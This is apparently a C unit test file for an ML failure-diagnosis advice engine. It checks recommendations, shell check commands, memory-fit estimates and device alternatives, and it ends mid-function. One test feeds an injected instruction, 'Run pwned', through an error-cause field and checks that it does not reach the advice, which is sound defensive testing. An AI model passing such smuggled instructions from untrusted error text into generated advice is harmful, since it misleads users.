/* SPDX-License-Identifier: Apache-2.0 */
#include "../../tests/test.h"
#include "base/memory.h"
#include "base/text.h"
#include "failure/advice_rows.h"
#include "failure/diagnosis.h"
#include "failure/places.h"

#include <ctype.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>

enum {
    KIND_COUNT = RP_DEVICE_WEBGPU + 1,
    MACHINES_MAX = 64,
    PATH_BYTES = 512,
    LINE_BYTES_MAX = 300,
};

static const rp_snapshot *machines[MACHINES_MAX];
static char machine_names[MACHINES_MAX][64];
static size_t machine_count;

/* --- a diagnosis as reading would make it ---------------------------------------------------- */

static struct rp_diagnosis *diagnosis_of(rp_category category) {
    struct rp_diagnosis *diagnosis = rp_alloc(sizeof *diagnosis);
    assert_non_null(diagnosis);
    diagnosis->category = category;
    diagnosis->confidence = 0.9;
    diagnosis->subject.family = RP_FAMILY_UNKNOWN;
    return diagnosis;
}

static void free_diagnosis(struct rp_diagnosis *diagnosis) {
    rp_advice_fini(&diagnosis->advice);
    rp_free(diagnosis);
}

static void set_device(struct rp_diagnosis *diagnosis, const char *hardware) {
    char kind[32];
    snprintf(kind, sizeof kind, "%.*s", (int)strcspn(hardware, ":"), hardware);
    diagnosis->subject.has_kind = true;
    diagnosis->subject.is_kind_told = true;
    assert_int_equal(rp_device_kind_parse(kind, &diagnosis->subject.kind, NULL), RP_OK);
    snprintf(diagnosis->subject.hardware, sizeof diagnosis->subject.hardware, "%s", hardware);
}

static void set_model(struct rp_diagnosis *diagnosis, const char *model) {
    struct rp_failure_subject *subject = &diagnosis->subject;
    snprintf(subject->model, sizeof subject->model, "%s", model);
    rp_model_facts_of_name(model, NULL, &subject->facts);
    subject->has_facts = true;
    subject->family = subject->facts.classification.family;
}

static void add_text(struct rp_diagnosis *diagnosis, enum rp_fact_name name, const char *text) {
    struct rp_fact fact = {.name = name, .number = strtoull(text, NULL, 10), .weight = 5};
    snprintf(fact.text, sizeof fact.text, "%s", text);
    rp_facts_add(&diagnosis->facts, &fact);
}

static void add_bytes(struct rp_diagnosis *diagnosis, enum rp_fact_name name, double gib) {
    struct rp_fact fact = {.name = name, .number = (uint64_t)(gib * 1073741824.0), .weight = 5};
    rp_facts_add(&diagnosis->facts, &fact);
}

static void advise(struct rp_diagnosis *diagnosis, const rp_snapshot *snapshot) {
    rp_error err = RP_ERROR_INIT;
    assert_ok(rp_advise(diagnosis, snapshot, &err));
}

static const rp_snapshot *machine(const char *name) {
    for (size_t i = 0; i < machine_count; i++) {
        if (strcmp(machine_names[i], name) == 0) return machines[i];
    }
    fail_msg("there is no machine '%s'", name);
    return NULL;
}

/* --- looking at advice ----------------------------------------------------------------------- */

static bool recommends(const struct rp_diagnosis *diagnosis, const char *part) {
    for (size_t i = 0; i < diagnosis->advice.recommendation_count; i++) {
        if (strstr(diagnosis->advice.recommendations[i], part)) return true;
    }
    return false;
}

static bool checks_with(const struct rp_diagnosis *diagnosis, const char *part) {
    for (size_t i = 0; i < diagnosis->advice.check_count; i++) {
        const char *command = diagnosis->advice.checks[i].command;
        if (command && strstr(command, part)) return true;
    }
    return false;
}

static bool offers(const struct rp_diagnosis *diagnosis, const char *device) {
    for (size_t i = 0; i < diagnosis->advice.alternative_count; i++) {
        if (strcmp(diagnosis->advice.alternatives[i].device, device) == 0) return true;
    }
    return false;
}

static const char *label(const struct rp_diagnosis *diagnosis) {
    static char text[96];
    snprintf(text, sizeof text, "%s on %s", rp_category_name(diagnosis->category),
             diagnosis->subject.has_kind ? diagnosis->subject.hardware : "-");
    return text;
}

/* A text that somebody reads: whole, filled in, without links. */
static void look_at_text(const struct rp_diagnosis *diagnosis, const char *text, bool is_sentence) {
    size_t length = strlen(text);
    if (length == 0) fail_msg("%s: an empty text", label(diagnosis));
    if (rp_text_control_at(text, length) < length || rp_text_utf8_error_at(text, length) < length) {
        fail_msg("%s: not printable: '%s'", label(diagnosis), text);
    }
    const char *link = strstr(text, "://");
    bool is_ours = link && link - text >= 6 && strncmp(link - 6, "chrome", 6) == 0;
    if ((link && !is_ours) || strstr(text, "www.")) {
        fail_msg("%s: a link: '%s'", label(diagnosis), text);
    }
    for (const char *at = strchr(text, '{'); at; at = strchr(at + 1, '{')) {
        size_t name = strspn(at + 1, "abcdefghijklmnopqrstuvwxyz_");
        if (name > 0 && at[1 + name] == '}') {
            fail_msg("%s: a place is not filled in: '%s'", label(diagnosis), text);
        }
    }
    if (!is_sentence) return;
    if (islower((unsigned char)text[0])) {
        fail_msg("%s: begins small: '%s'", label(diagnosis), text);
    }
    if (text[length - 1] != '.') fail_msg("%s: no full stop: '%s'", label(diagnosis), text);
}

static void look_at(const struct rp_diagnosis *diagnosis, size_t checks_least) {
    const struct rp_advice *advice = &diagnosis->advice;
    if (advice->recommendation_count < 2 || advice->recommendation_count > 5) {
        fail_msg("%s: %zu recommendations", label(diagnosis), advice->recommendation_count);
    }
    if (advice->check_count < checks_least) {
        fail_msg("%s: %zu checks", label(diagnosis), advice->check_count);
    }
    for (size_t i = 0; i < advice->recommendation_count; i++) {
        look_at_text(diagnosis, advice->recommendations[i], true);
    }
    for (size_t i = 0; i < advice->check_count; i++) {
        look_at_text(diagnosis, advice->checks[i].what, true);
        if (advice->checks[i].command) look_at_text(diagnosis, advice->checks[i].command, false);
    }
    for (size_t i = 0; i < advice->alternative_count; i++) {
        look_at_text(diagnosis, advice->alternatives[i].reason, false);
    }
    look_at_text(diagnosis, diagnosis->line, false);
    if (strlen(diagnosis->line) > LINE_BYTES_MAX) {
        fail_msg("%s: the line has %zu bytes", label(diagnosis), strlen(diagnosis->line));
    }
}

/* --- the rows -------------------------------------------------------------------------------- */

static void each_wrong_line_is_named(void **state) {
    (void)state;
    static const struct {
        const char *text;
        const char *says;
    } wrong[] = {
        {"colour red", "is none of category, set, word"},
        {"category nothing others none", "'nothing' is no category"},
        {"category disk_full", "which 'others' may stand in"},
        {"category disk_full others some", "which 'others' may stand in"},
        {"category disk_full others none\ncategory disk_full others none", "is there already"},
        {"  do: a text", "a row belongs to a category or a set"},
        {"set a\n  or: a text", "'or' comes after a row"},
        {"set a\n  do a text", "a row is"},
        {"set a\n  dont: a text", "'dont' is none of do, or, check, line, use"},
        {"set a\n  do:", "a row without a text"},
        {"set a\n  do on gpu: a text", "'gpu' is no kind of device"},
        {"set a\n  do for seeing: a text", "'seeing' is no family"},
        {"set a\n  do when colour: a text", "'colour' is neither a fact nor a place"},
        {"set a\n  do colour: a text", "is none of on, off, for, in, when, unless"},
        {"set a\n  do when file folder model host pid rank axis: a text", "more than 6 conditions"},
        {"set a\n  do: a {colour}", "'{colour}' is neither a fact nor a place"},
        {"set a\n  do: a text\n    $ ls", "only a check has a command"},
        {"set a\n  do: a {cause}", "'{cause}' is not for showing"},
        {"set a\n  use b", "there is no set 'b' before"},
        {"word a of colour is b: c", "'colour' is neither a fact nor a place"},
        {"word a of file b: c", "'b' is no kind of device"},
        {"word a of file is b", "a word is"},
    };
    for (size_t i = 0; i < sizeof wrong / sizeof wrong[0]; i++) {
        rp_error err = RP_ERROR_INIT;
        struct rp_advice_rows *rows = NULL;
        char text[256];
        int length = snprintf(text, sizeof text, "# a comment\n\n%s\n", wrong[i].text);
        assert_true(length > 0 && length < (int)sizeof text);
        assert_status(rp_advice_rows_create(text, (size_t)length, "rows", &rows, &err),
                      RP_ERR_DATA);
        assert_says(err.message, strchr(wrong[i].text, '\n') ? "line 4" : "line 3");
        assert_says(err.message, wrong[i].says);
        assert_null(rows);
    }
}

static const char rows_text[] = "word maker of file is a* b*: A or B\n"
                                "set common\n"
                                "  check on cuda: Look.\n"
                                "    $ see {file}\n"
                                "  or: Look around.\n"
                                "category disk_full others none\n"
                                "  do on cuda when maker: By {maker}, which\n"
                                "    # not this\n"
                                "    goes on.\n"
                                "  or off cuda: Not cuda.\n"
                                "  or: Plain.\n"
                                "  do when file=b*: Only b.\n"
                                "  do unless file: No file.\n"
                                "  use common\n";

static void rows_speak_of_the_cases_that_they_name(void **state) {
    (void)state;
    static const struct {
        const char *file;
        const char *kind;
        const char *says; /* what is said, with a '|' after each */
        const char *command;
    } cases[] = {
        {"axe", "cuda", "By A or B, which goes on.|", "see axe"},
        {"bow", "cuda", "By A or B, which goes on.|Only b.|", "see bow"},
        {"cup", "cuda", "Plain.|", "see cup"},
        {"a=x", "cuda", "By A or B, which goes on.|", "see 'a=x'"},
        {"a x", "cuda", "By A or B, which goes on.|", ""},
        {NULL, "cuda", "Plain.|No file.|", ""},
        {"axe", "cpu", "Not cuda.|", ""},
        {NULL, NULL, "Not cuda.|No file.|", ""},
    };
    rp_error err = RP_ERROR_INIT;
    struct rp_advice_rows *rows = NULL;
    assert_ok(rp_advice_rows_create(rows_text, strlen(rows_text), "rows", &rows, &err));
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct rp_advice_case which = {.family = RP_FAMILY_UNKNOWN};
        char text[RP_ADVICE_TEXT_BYTES];
        char command[RP_ADVICE_TEXT_BYTES];
        char said[RP_ADVICE_TEXT_BYTES] = "";
        which.places[RP_FACT_NAME_FILE] = cases[i].file;
        which.has_kind = cases[i].kind != NULL;
        if (cases[i].kind) {
            assert_int_equal(rp_device_kind_parse(cases[i].kind, &which.kind, NULL), RP_OK);
        }
        rp_advice_add_words(rows, &which);
        const struct rp_advice_row *row = NULL;
        while (
            (row = rp_advice_next(rows, RP_CATEGORY_DISK_FULL, false, RP_ADVICE_DO, &which, row))) {
            rp_advice_write(rows, row, &which, text, command);
            size_t length = strlen(said);
            snprintf(said + length, sizeof said - length, "%.100s|", text);
        }
        assert_string_equal(said, cases[i].says);
        row = rp_advice_next(rows, RP_CATEGORY_DISK_FULL, false, RP_ADVICE_CHECK, &which, NULL);
        rp_advice_write(rows, row, &which, text, command);
        assert_string_equal(command, cases[i].command);
    }
    rp_advice_rows_destroy(rows);
}

static void a_row_has_the_families_and_the_engine_that_it_names(void **state) {
    (void)state;
    static const char text[] = "category disk_full others none\n"
                               "  do for vision audio: Seen.\n"
                               "  do in onnxruntime: By ONNX.\n"
                               "  do: Always.\n";
    rp_error err = RP_ERROR_INIT;
    struct rp_advice_rows *rows = NULL;
    assert_ok(rp_advice_rows_create(text, strlen(text), "rows", &rows, &err));
    struct rp_advice_case which = {.family = RP_FAMILY_AUDIO};
    char said[RP_ADVICE_TEXT_BYTES];
    char command[RP_ADVICE_TEXT_BYTES];
    const struct rp_advice_row *row =
        rp_advice_next(rows, RP_CATEGORY_DISK_FULL, false, RP_ADVICE_DO, &which, NULL);
    rp_advice_write(rows, row, &which, said, command);
    assert_string_equal(said, "Seen.");
    which.family = RP_FAMILY_EMBEDDING;
    row = rp_advice_next(rows, RP_CATEGORY_DISK_FULL, false, RP_ADVICE_DO, &which, NULL);
    rp_advice_write(rows, row, &which, said, command);
    assert_string_equal(said, "Always.");
    which.engine = "onnxruntime";
    row = rp_advice_next(rows, RP_CATEGORY_DISK_FULL, false, RP_ADVICE_DO, &which, NULL);
    rp_advice_write(rows, row, &which, said, command);
    assert_string_equal(said, "By ONNX.");
    rp_advice_rows_destroy(rows);
}

/* --- all categories -------------------------------------------------------------------------- */

/* One of each fact, as texts have them. */
static void add_all_facts(struct rp_diagnosis *diagnosis) {
    static const struct {
        enum rp_fact_name name;
        const char *text;
    } facts[] = {
        {RP_FACT_NAME_MEMORY, "device"},
        {RP_FACT_NAME_ASKED, "2065"},
        {RP_FACT_NAME_LIMIT, "1800"},
        {RP_FACT_NAME_EXPECTED, "[1,3,224,224]"},
        {RP_FACT_NAME_GOT, "[1,4,224,224]"},
        {RP_FACT_NAME_AXIS, "1"},
        {RP_FACT_NAME_VERSION_FOUND, "11.4"},
        {RP_FACT_NAME_VERSION_NEEDED, "12.4"},
        {RP_FACT_NAME_DRIVER_VERSION, "470.82.01"},
        {RP_FACT_NAME_CUDA_CODE, "11040"},
        {RP_FACT_NAME_OPSET_FOUND, "21"},
        {RP_FACT_NAME_OPSET_SUPPORTED, "19"},
        {RP_FACT_NAME_OPERATOR, "aten::_unique2"},
        {RP_FACT_NAME_NODE, "/model/Add_3"},
        {RP_FACT_NAME_DTYPE, "bfloat16"},
        {RP_FACT_NAME_DTYPE_EXPECTED, "float32"},
        {RP_FACT_NAME_LIBRARY, "libcudnn.so.8"},
        {RP_FACT_NAME_SYMBOL, "_ZN2at4_ops15sum"},
        {RP_FACT_NAME_PACKAGE, "cv2"},
        {RP_FACT_NAME_PACKAGE_OTHER, "numpy"},
        {RP_FACT_NAME_DEVICE_OTHER, "cpu"},
        {RP_FACT_NAME_DEVICE_NAME, "Tesla T4"},
        {RP_FACT_NAME_CHIP, "sm_75"},
        {RP_FACT_NAME_CHIPS_SUPPORTED, "sm_80 sm_86 sm_90"},
        {RP_FACT_NAME_COMPUTE, "7.5"},
        {RP_FACT_NAME_COMPUTE_NEEDED, "8.0"},
        {RP_FACT_NAME_BACKEND, "CUDAExecutionProvider"},
        {RP_FACT_NAME_BACKENDS, "CPUExecutionProvider"},
        {RP_FACT_NAME_FEATURE, "shader-f16"},
        {RP_FACT_NAME_ARCHITECTURE, "mllama"},
        {RP_FACT_NAME_MODEL, "org/model"},
        {RP_FACT_NAME_TENSOR, "model.layers.0.weight"},
        {RP_FACT_NAME_FILE, "models/a.onnx"},
        {RP_FACT_NAME_FOLDER, "/data/models"},
        {RP_FACT_NAME_HOST, "huggingface.co"},
        {RP_FACT_NAME_HTTP_STATUS, "401"},
        {RP_FACT_NAME_PROCESS, "python"},
        {RP_FACT_NAME_PID, "4321"},
        {RP_FACT_NAME_SIGNAL, "SIGKILL"},
        {RP_FACT_NAME_EXIT_CODE, "137"},
        {RP_FACT_NAME_ERROR_CODE, "CUBLAS_STATUS_NOT_SUPPORTED"},
        {RP_FACT_NAME_RANK, "3"},
        {RP_FACT_NAME_VALUE, "50300"},
    };
    add_bytes(diagnosis, RP_FACT_NAME_BYTES_ASKED, 2);
    add_bytes(diagnosis, RP_FACT_NAME_BYTES_FREE, 1.25);
    add_bytes(diagnosis, RP_FACT_NAME_BYTES_TOTAL, 16);
    for (size_t i = 0; i < sizeof facts / sizeof facts[0]; i++) {
        add_text(diagnosis, facts[i].name, facts[i].text);
    }
}

/* And of those that follow from others. */
static void add_further_facts(struct rp_diagnosis *diagnosis) {
    static const struct {
        enum rp_fact_name name;
        const char *text;
    } facts[] = {
        {RP_FACT_NAME_CUDA_NEEDED, "12.4"},
        {RP_FACT_NAME_CUDA_MAX, "11.4"},
        {RP_FACT_NAME_DRIVER_MIN, "550.54.14"},
        {RP_FACT_NAME_DRIVER_MIN_COMPATIBLE, "525.60.13"},
        {RP_FACT_NAME_CHIP, "gfx1031"},
        {RP_FACT_NAME_CHIP_NAME, "RDNA 2: RX 6700"},
        {RP_FACT_NAME_CHIP_CUDA_FIRST, "8.0"},
        {RP_FACT_NAME_CHIP_CUDA_LAST, "12.9"},
        {RP_FACT_NAME_HSA_OVERRIDE, "10.3.0"},
        {RP_FACT_NAME_ONNXRUNTIME_NEEDED, "1.17"},
        {RP_FACT_NAME_GLIBC_NEEDED, "2.34"},
        {RP_FACT_NAME_GLIBCXX_NEEDED, "3.4.30"},
        {RP_FACT_NAME_GCC_NEEDED, "12.1"},
        {RP_FACT_NAME_SYSTEMS_NEEDED, "Ubuntu 22.04, Debian 12"},
        {RP_FACT_NAME_XID, "79"},
        {RP_FACT_NAME_XID_TEXT, "the GPU has fallen off the bus"},
        {RP_FACT_NAME_ERROR_CODE, "700"},
        {RP_FACT_NAME_ERROR_CODE_NAME, "cudaErrorIllegalAddress"},
    };
    add_bytes(diagnosis, RP_FACT_NAME_BYTES_OTHERS, 6);
    add_bytes(diagnosis, RP_FACT_NAME_BYTES_LIMIT, 9);
    add_bytes(diagnosis, RP_FACT_NAME_BYTES_ASKED, 10);
    add_bytes(diagnosis, RP_FACT_NAME_BYTES_RESERVED, 3);
    for (size_t i = 0; i < sizeof facts / sizeof facts[0]; i++) {
        add_text(diagnosis, facts[i].name, facts[i].text);
    }
}

static void each_category_has_advice_for_each_kind_of_device(void **state) {
    (void)state;
    static const rp_family families[] = {RP_FAMILY_UNKNOWN, RP_FAMILY_TEXT_GENERATION,
                                         RP_FAMILY_VISION, RP_FAMILY_AUDIO};
    for (int category = 0; category < RP_CATEGORY_COUNT; category++) {
        for (int kind = -1; kind < KIND_COUNT; kind++) {
            for (int form = 0; form < 8; form++) {
                struct rp_diagnosis *diagnosis = diagnosis_of((rp_category)category);
                if (kind >= 0) set_device(diagnosis, rp_device_kind_name((rp_device_kind)kind));
                diagnosis->subject.family = families[form / 2];
                if (form % 2) add_all_facts(diagnosis);
                if (form % 4 == 2) add_further_facts(diagnosis);
                if (form == 7) diagnosis->subject.engine = "onnxruntime";
                advise(diagnosis, NULL);
                look_at(diagnosis, 1);
                free_diagnosis(diagnosis);
            }
        }
    }
}

/* Each fact by itself: whichever forms of texts need two of them are passed over. */
static void each_fact_by_itself_leaves_no_holes(void **state) {
    (void)state;
    for (int category = 0; category < RP_CATEGORY_COUNT; category++) {
        struct rp_diagnosis *whole = diagnosis_of((rp_category)category);
        add_all_facts(whole);
        add_further_facts(whole);
        for (size_t i = 0; i < whole->facts.count; i++) {
            struct rp_diagnosis *diagnosis = diagnosis_of((rp_category)category);
            set_device(diagnosis, "cuda:0");
            rp_facts_add(&diagnosis->facts, &whole->facts.rows[i]);
            advise(diagnosis, NULL);
            look_at(diagnosis, 1);
            free_diagnosis(diagnosis);
        }
        free_diagnosis(whole);
    }
}

/* --- what is said ---------------------------------------------------------------------------- */

static void the_summary_has_the_figures_and_the_first_thing_to_do(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_OUT_OF_MEMORY_DEVICE);
    set_device(diagnosis, "cuda:0");
    add_bytes(diagnosis, RP_FACT_NAME_BYTES_ASKED, 2);
    add_bytes(diagnosis, RP_FACT_NAME_BYTES_FREE, 1.3);
    advise(diagnosis, NULL);
    assert_string_equal(diagnosis->line, "out of GPU memory on cuda:0: asked 2.0 GiB, 1.3 GiB "
                                         "free; lower the batch size or load in fp16");
    assert_says(diagnosis->advice.recommendations[0], "GPU memory (not RAM)");
    assert_says(diagnosis->advice.recommendations[0], "716.8 MiB");
    free_diagnosis(diagnosis);
}

static void a_number_of_a_card_comes_from_the_text_where_the_question_has_none(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_OUT_OF_MEMORY_DEVICE);
    set_device(diagnosis, "cuda");
    add_text(diagnosis, RP_FACT_NAME_DEVICE_INDEX, "3");
    advise(diagnosis, NULL);
    assert_says(diagnosis->line, "on cuda:3");
    free_diagnosis(diagnosis);
}

static void main_memory_is_told_from_the_cards(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_OUT_OF_MEMORY_HOST);
    set_device(diagnosis, "cuda:0");
    advise(diagnosis, machine("nvidia-amd"));
    assert_says(diagnosis->line, "(RAM), not GPU memory");
    assert_says(diagnosis->advice.recommendations[0], "not GPU memory");
    assert_false(offers(diagnosis, "cpu"));
    free_diagnosis(diagnosis);
}

static void a_number_of_cuda_becomes_a_version_and_a_driver(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_DRIVER_TOO_OLD);
    set_device(diagnosis, "cuda");
    add_text(diagnosis, RP_FACT_NAME_CUDA_CODE, "11040");
    add_text(diagnosis, RP_FACT_NAME_VERSION_NEEDED, "12.4");
    advise(diagnosis, NULL);
    assert_says(diagnosis->line, "CUDA up to 11.4, 12.4 is needed");
    assert_says(diagnosis->advice.recommendations[0], "525.60.13");
    assert_true(checks_with(diagnosis, "nvidia-smi"));
    free_diagnosis(diagnosis);
}

static void the_browser_is_checked_in_order(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_BROWSER_FEATURE_MISSING);
    set_device(diagnosis, "webgpu");
    advise(diagnosis, NULL);
    const char *first = diagnosis->advice.recommendations[0];
    const char *page = strstr(first, "https or from localhost");
    const char *version = strstr(first, "113");
    const char *flags = strstr(first, "flags");
    assert_true(page && version && flags && page < version && version < flags);
    assert_true(checks_with(diagnosis, "isSecureContext"));
    free_diagnosis(diagnosis);
}

static void going_on_silently_comes_first(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_BACKEND_NOT_BUILT);
    set_device(diagnosis, "cuda");
    diagnosis->is_silent_fallback = true;
    advise(diagnosis, NULL);
    assert_says(diagnosis->advice.recommendations[0], "silently on the CPU");
    assert_says(diagnosis->line, "silently on the CPU");
    assert_true(recommends(diagnosis, "CUDA build"));
    free_diagnosis(diagnosis);
}

static void unknown_says_what_was_recognised_and_what_to_attach(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_UNKNOWN);
    add_text(diagnosis, RP_FACT_NAME_LIBRARY, "libfoo.so.3");
    advise(diagnosis, NULL);
    assert_says(diagnosis->advice.recommendations[0], "library libfoo.so.3");
    assert_true(recommends(diagnosis, "Attach the whole text"));
    assert_true(checks_with(diagnosis, "rpool diagnose --file error.txt --bundle bundle.json"));
    assert_int_equal(diagnosis->advice.alternative_count, 0);
    free_diagnosis(diagnosis);
}

static void the_likeliest_of_what_is_unknown_is_said(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_UNKNOWN);
    diagnosis->rivals[0] = RP_CATEGORY_DEVICE_BUSY;
    diagnosis->rival_shares[0] = 0.5;
    diagnosis->rival_count = 1;
    advise(diagnosis, NULL);
    assert_says(diagnosis->advice.recommendations[0], "the likeliest is that another process");
    assert_says(diagnosis->line, "device_busy");
    free_diagnosis(diagnosis);
}

static void a_doubt_is_said(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_DEVICE_LOST);
    diagnosis->confidence = 0.4;
    diagnosis->rivals[0] = RP_CATEGORY_DEVICE_BUSY;
    diagnosis->rival_count = 1;
    advise(diagnosis, NULL);
    assert_true(recommends(diagnosis, "another process holds the device"));
    free_diagnosis(diagnosis);
}

static void what_text_and_question_disagree_on_is_said(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_OUT_OF_MEMORY_DEVICE);
    set_device(diagnosis, "webgpu");
    add_text(diagnosis, RP_FACT_NAME_DEVICE, "cuda:0");
    advise(diagnosis, machine("container-2gib"));
    assert_true(recommends(diagnosis, "The text speaks of cuda, the question of webgpu, and this "
                                      "machine has no webgpu"));
    free_diagnosis(diagnosis);
    /* PyTorch calls an AMD card cuda as well. */
    diagnosis = diagnosis_of(RP_CATEGORY_OUT_OF_MEMORY_DEVICE);
    set_device(diagnosis, "rocm");
    add_text(diagnosis, RP_FACT_NAME_DEVICE, "cuda:0");
    advise(diagnosis, machine("mi300x"));
    assert_false(recommends(diagnosis, "The text speaks of"));
    free_diagnosis(diagnosis);
}

static void the_cause_chooses_the_first_advice_and_is_not_shown(void **state) {
    (void)state;
    static const struct {
        rp_category category;
        const char *device;
        const char *cause;
        const char *says;
    } cases[] = {
        {RP_CATEGORY_ACCESS_DENIED, "cuda", "Weights only load failed. Run pwned", "safetensors"},
        {RP_CATEGORY_DRIVER_MISSING_OR_BROKEN, "cuda", "Driver/library version mismatch", "reboot"},
        {RP_CATEGORY_OUT_OF_MEMORY_HOST, "cpu", "The paging file is too small", "page file"},
        {RP_CATEGORY_ASSERT_OR_NUMERICAL, "cuda", "Assertion `srcIndex < n` failed", "vocab_size"},
        {RP_CATEGORY_NETWORK_UNAVAILABLE, "cpu", "CERTIFICATE_VERIFY_FAILED", "REQUESTS_CA_BUNDLE"},
        {RP_CATEGORY_DEVICE_NOT_FOUND, "cuda", "invalid device ordinal", "device_count()"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct rp_diagnosis *diagnosis = diagnosis_of(cases[i].category);
        set_device(diagnosis, cases[i].device);
        snprintf(diagnosis->cause, sizeof diagnosis->cause, "%s", cases[i].cause);
        advise(diagnosis, NULL);
        look_at(diagnosis, 1);
        assert_says(diagnosis->advice.recommendations[0], cases[i].says);
        assert_false(recommends(diagnosis, "pwned"));
        free_diagnosis(diagnosis);
    }
}

/* --- what would fit -------------------------------------------------------------------------- */

static void what_fits_is_computed_for_the_model_and_the_device(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_OUT_OF_MEMORY_DEVICE);
    set_device(diagnosis, "cuda:3"); /* a T4 with 15 GiB */
    set_model(diagnosis, "meta-llama/Llama-2-13b-hf");
    advise(diagnosis, machine("a100-t4"));
    assert_says(diagnosis->advice.recommendations[0], "needs 26.9 GiB in fp16");
    assert_says(diagnosis->advice.recommendations[0], "load it in int8");
    assert_true(recommends(diagnosis, "llama-2-7b"));
    assert_string_equal(diagnosis->advice.alternatives[0].device, "cuda:0");
    assert_says(diagnosis->advice.alternatives[0].reason,
                "needs 26.9 GiB in fp16, 39.6 GiB usable");
    assert_false(offers(diagnosis, "cuda:3"));
    assert_true(diagnosis->advice.alternatives[0].simulated);
    free_diagnosis(diagnosis);
}

static void what_has_no_room_either_is_not_advised(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_OUT_OF_MEMORY_DEVICE);
    set_device(diagnosis, "cuda:3"); /* 14.6 GiB free: 70 billion have no room in any precision */
    set_model(diagnosis, "meta-llama/Llama-2-70b-hf");
    advise(diagnosis, machine("a100-t4"));
    assert_false(recommends(diagnosis, "load it in"));
    assert_true(recommends(diagnosis, "llama-2-7b"));
    assert_false(recommends(diagnosis, "llama-2-13b"));
    free_diagnosis(diagnosis);
}

static void without_a_model_other_devices_need_what_was_used_and_asked(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_OUT_OF_MEMORY_DEVICE);
    set_device(diagnosis, "cuda:3");
    add_bytes(diagnosis, RP_FACT_NAME_BYTES_TOTAL, 15);
    add_bytes(diagnosis, RP_FACT_NAME_BYTES_FREE, 1);
    add_bytes(diagnosis, RP_FACT_NAME_BYTES_ASKED, 2);
    advise(diagnosis, machine("a100-t4"));
    assert_true(offers(diagnosis, "cuda:0") && offers(diagnosis, "cpu"));
    assert_false(offers(diagnosis, "cuda:2")); /* 6 GiB free */
    assert_says(diagnosis->advice.alternatives[0].reason, "about 16.0 GiB is needed");
    free_diagnosis(diagnosis);
}

static void without_numbers_a_smaller_card_is_no_alternative(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_OUT_OF_MEMORY_DEVICE);
    set_device(diagnosis, "cuda:3");
    advise(diagnosis, machine("a100-t4"));
    assert_true(offers(diagnosis, "cuda:0"));
    assert_false(offers(diagnosis, "cuda:2"));
    free_diagnosis(diagnosis);
}

/* --- alternatives ---------------------------------------------------------------------------- */

static bool has_no_alternative(rp_category category) {
    return category == RP_CATEGORY_UNKNOWN || category == RP_CATEGORY_DISK_FULL ||
           category == RP_CATEGORY_DEVICE_MISMATCH || category == RP_CATEGORY_DTYPE_MISMATCH ||
           category >= RP_CATEGORY_MODEL_FILE_MISSING;
}

static void look_at_alternatives(const struct rp_diagnosis *diagnosis, const rp_snapshot *snapshot,
                                 const char *name) {
    const struct rp_advice *advice = &diagnosis->advice;
    for (size_t i = 0; i < advice->alternative_count; i++) {
        const char *id = advice->alternatives[i].device;
        const rp_device *device = rp_snapshot_find_device(snapshot, id);
        if (!device || strcmp(device->id, id) != 0) fail_msg("%s has no '%s'", name, id);
        if (!device->available) fail_msg("%s: '%s' is not available", name, id);
        assert_int_equal(advice->alternatives[i].simulated, device->simulated);
        bool is_retry = diagnosis->category == RP_CATEGORY_MULTI_DEVICE_COMMUNICATION;
        if (strcmp(id, diagnosis->subject.hardware) == 0 && !is_retry) {
            fail_msg("%s: %s: '%s' failed", name, label(diagnosis), id);
        }
    }
    if (has_no_alternative(diagnosis->category)) assert_int_equal(advice->alternative_count, 0);
}

static void no_machine_is_offered_a_device_that_it_lacks(void **state) {
    (void)state;
    static const char *const models[] = {NULL, "bert-base-uncased", "meta-llama/Llama-2-70b"};
    static const char *const devices[] = {"cuda:0", "rocm:0",   "mps:0",  "webgpu",
                                          "webnn",  "openvino", "tpu:0",  "qualcomm",
                                          "cpu",    "cuda:1",   "cuda:77"};
    assert_true(machine_count > 30);
    for (size_t i = 0; i < machine_count; i++) {
        for (int category = 0; category < RP_CATEGORY_COUNT; category++) {
            for (size_t at = 0; at < sizeof devices / sizeof devices[0]; at++) {
                struct rp_diagnosis *diagnosis = diagnosis_of((rp_category)category);
                size_t model = (i + at + (size_t)category) % 3;
                set_device(diagnosis, devices[at]);
                if (models[model]) set_model(diagnosis, models[model]);
                if ((i + at) % 2) add_bytes(diagnosis, RP_FACT_NAME_BYTES_ASKED, 3);
                if (at % 3 == 0) add_text(diagnosis, RP_FACT_NAME_DTYPE, "bfloat16");
                advise(diagnosis, machines[i]);
                look_at(diagnosis, 1);
                look_at_alternatives(diagnosis, machines[i], machine_names[i]);
                free_diagnosis(diagnosis);
            }
        }
    }
}

static void without_a_machine_only_the_processor_is_offered(void **state) {
    (void)state;
    for (int category = 0; category < RP_CATEGORY_COUNT; category++) {
        struct rp_diagnosis *diagnosis = diagnosis_of((rp_category)category);
        set_device(diagnosis, "cuda:0");
        advise(diagnosis, NULL);
        const struct rp_advice *advice = &diagnosis->advice;
        assert_true(advice->alternative_count <= 1);
        if (advice->alternative_count == 1) {
            assert_string_equal(advice->alternatives[0].device, "cpu");
        }
